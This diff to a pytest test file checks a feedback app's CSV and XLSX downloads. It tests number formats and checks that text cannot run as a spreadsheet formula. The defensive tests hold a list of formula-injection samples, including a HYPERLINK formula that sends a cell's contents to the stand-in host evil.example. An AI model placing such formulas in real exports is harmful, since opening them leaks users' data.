@@ -3,11 +3,14 @@ hand-counted numbers, downloads and roles."""
 
 from __future__ import annotations
 
+import csv as csv_module
 import io
 import itertools
 import random
+import re
 from datetime import date, datetime
 
+import openpyxl
 import pandas as pd
 import pytest
 from sqlalchemy import func, select
@@ -374,6 +377,7 @@ def test_downloads_carry_the_same_suppression(hand_counted, client):
     sign_in(client, "pcv_rep")
     csv = client.get("/feedback/download/q-all-types-views-included.csv?term=Summer+2023")
     assert csv.status_code == 200 and "attachment" in csv.headers["Content-Disposition"]
+    assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
     rows = pd.read_csv(io.BytesIO(csv.data), encoding="utf-8-sig")
     assert list(rows["People"]) == ["6", "hidden", "fewer than 5"]
     xlsx = client.get("/feedback/download/q-all-types-views-included.xlsx?term=Summer+2023")
@@ -384,6 +388,89 @@ def test_downloads_carry_the_same_suppression(hand_counted, client):
     with hand_counted.app_context():
         exports = db.session.scalars(select(AuditEvent).filter_by(action="export")).all()
     assert len(exports) == 2
+
+
+def _sheet(data: bytes) -> list[list]:
+    """The XLSX's cells as (value, type, number format), row by row."""
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    return [[(c.value, c.data_type, c.number_format) for c in row] for row in sheet.iter_rows()]
+
+
+def test_downloads_hold_numbers_as_numbers(hand_counted, client):
+    sign_in(client, "pcv_rep")
+    url = "/feedback/download/{}?term=Summer+2023"
+    csv = client.get(url.format("q-all-types-pick-one.csv")).data.decode("utf-8-sig")
+    assert csv.splitlines() == ['"Answer","People","%"', '"Cats (positive)",9,64', '"Dogs",5,36']
+    rows = _sheet(client.get(url.format("q-all-types-pick-one.xlsx")).data)
+    assert rows[1] == [("Cats (positive)", "s", "General"), (9, "n", "#,##0"), (0.64, "n", "0%")]
+    views = _sheet(client.get(url.format("q-all-types-views-included.xlsx")).data)
+    assert [row[1][:2] for row in views[1:]] == [(6, "n"), ("hidden", "s"), ("fewer than 5", "s")]
+    # A scorecard: the number of questions, a count, a % and a change in points.
+    principles = client.get(url.format("by-principle.csv")).data.decode("utf-8-sig")
+    header, *lines = principles.splitlines()
+    assert header.endswith('"% positive","Change since last term (points)"')
+    # (How many questions count is issue 12's; here only that it is a plain number.)
+    assert any(re.fullmatch(r'"Actively listen",\d+,14,64,14', line) for line in lines), lines
+    cells = next(
+        r for r in _sheet(client.get(url.format("by-principle.xlsx")).data) if r[4][0] == 14
+    )
+    assert isinstance(cells[1][0], int) and cells[1][1:] == ("n", "#,##0")
+    assert cells[2:] == [
+        (14, "n", "#,##0"),
+        (0.64, "n", "0%"),
+        (14, "n", '+#,##0" points";-#,##0" points";#,##0" points"'),
+    ]
+    weeks = _sheet(client.get(url.format("q-all-types-weeks-waited.xlsx")).data)
+    assert weeks[2][1] == (7.5, "n", '#,##0.0" weeks"')
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Open figures")',
+    "+1+2",
+    "-1+2",
+    "@SUM(A1)",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def test_exported_text_cannot_run_as_a_formula():
+    from sefvoice.feedback.exports import to_csv, to_xlsx
+    from sefvoice.feedback.tables import Table
+
+    table = Table(
+        "t",
+        "T",
+        ["=Name", "Change"],
+        [[text, disclosure.Shown(-4, "-4 points")] for text in HOSTILE]
+        + [["-", disclosure.Shown(None, "hidden")]],
+    )
+    lines = list(csv_module.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
+    assert lines[0] == ["'=Name", "Change (points)"]
+    assert lines[1:] == [["'" + text, "-4"] for text in HOSTILE] + [["'-", "hidden"]]
+    rows = _sheet(to_xlsx(table))
+    assert rows[0][0][:2] == ("'=Name", "s")
+    for text, row in zip(HOSTILE, rows[1:], strict=False):
+        assert row[0][:2] == ("'" + text, "s")
+        assert row[1][:2] == (-4, "n")  # a genuine negative number stays a number
+    assert rows[-1][0][:2] == ("'-", "s")
+
+
+def test_a_measure_named_as_a_formula_downloads_as_text(app, client):
+    from sefvoice.indicators import service as indicators
+    from sefvoice.indicators.importer import read_rows
+
+    name = HOSTILE[0].replace('"', '""')
+    data = (
+        f'code,name,domain,period,value,unit,outcome\nevil,"{name}",education,2023-01,5,count,3\n'
+    ).encode()
+    with app.app_context():
+        indicators.apply_import(indicators.plan_import(read_rows(data, "m.csv")), "m.csv", "t")
+    sign_in(client, "pcv_rep")
+    xlsx = client.get("/feedback/download/measures-3.xlsx?term=Summer+2023")
+    assert _sheet(xlsx.data)[1][0][:2] == ("'" + HOSTILE[0], "s")
+    csv = client.get("/feedback/download/measures-3.csv?term=Summer+2023").data
+    assert csv.decode("utf-8-sig").splitlines()[1].startswith('"\'=HYPERLINK(""http')
 
 
 def test_hidden_numbers_never_reach_the_page(hand_counted, client):
